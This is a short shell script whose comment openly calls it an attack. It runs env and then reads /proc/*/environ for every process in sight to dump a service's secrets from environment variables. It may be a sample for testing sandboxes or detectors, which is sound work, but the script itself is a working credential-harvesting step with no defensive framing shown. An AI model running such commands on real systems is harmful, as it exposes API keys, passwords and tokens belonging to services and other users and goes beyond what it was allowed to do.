# Attack: find the service's secrets in the environment of this process or of any process in sight.
env
for f in /proc/[0-9]*/environ /proc/self/environ; do
    tr '\0' '\n' < "$f" 2>/dev/null
done
echo "done"
